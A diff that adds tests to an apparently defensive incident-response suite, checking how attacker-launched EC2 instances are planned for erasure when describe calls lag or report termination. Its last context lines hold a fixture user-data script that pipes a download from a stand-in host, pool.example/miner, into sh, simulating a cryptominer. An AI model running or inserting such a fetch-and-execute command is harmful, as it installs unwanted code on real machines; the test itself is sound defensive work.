@@ -161,6 +161,49 @@ describe('EC2 instances', () => {
     expect(await erase(there, made)).toEqual([{ result: 'already-gone' }]);
   });
 
+  it('that describe does not find yet are not gone, and those told as terminated are', async () => {
+    const there = lab();
+    const [late, ended] = await launch(there, 2);
+    if (late === undefined || ended === undefined) throw new Error('nothing was launched');
+    const listed = instances(there);
+    const hidden = listed[idOf(late)];
+    const terminated = listed[idOf(ended)];
+    if (hidden === undefined || terminated === undefined) throw new Error('nothing was launched');
+    terminated.state = 'terminated';
+    terminated.terminatedAt = there.clock.now().toISOString();
+    delete listed[idOf(late)];
+    const waits: number[] = [];
+    const clock: Lab['ctx']['clock'] = {
+      now: () => there.clock.now(),
+      async sleep(ms, signal) {
+        waits.push(ms);
+        await there.clock.sleep(ms, signal);
+        // Known from the third look on.
+        if (waits.length === 2) listed[idOf(late)] = hidden;
+      },
+    };
+    const { lineage } = await there.ctx.incident.investigate(there.ctx.signal, { fresh: true });
+    const { changes, counts } = await planErasure({ ...there.ctx, clock }, lineage);
+    expect(changes.map(({ target }) => target.id)).toEqual([idOf(late)]);
+    expect(counts).toMatchObject({ attacker: 1, gone: 1 });
+    expect(waits).toHaveLength(2);
+  });
+
+  it('that are still not found a minute after their launch are gone', async () => {
+    const there = lab();
+    const [one] = await launch(there, 1);
+    delete instances(there)[one === undefined ? '' : idOf(one)];
+    const { lineage } = await there.ctx.incident.investigate(there.ctx.signal, { fresh: true });
+    const launchedAt = there.clock.now().getTime();
+    const { changes, counts } = await planErasure(there.ctx, lineage);
+    expect([changes, counts.gone]).toEqual([[], 1]);
+    const waited = there.clock.now().getTime() - launchedAt;
+    expect(waited).toBeGreaterThanOrEqual(60_000);
+    // Old news is believed at once.
+    await planErasure(there.ctx, lineage);
+    expect(there.clock.now().getTime() - launchedAt).toBe(waited);
+  });
+
   it('leave description, user data and console output behind as evidence', async () => {
     const there = lab();
     const script = '#!/bin/sh\ncurl https://pool.example/miner | sh\n';
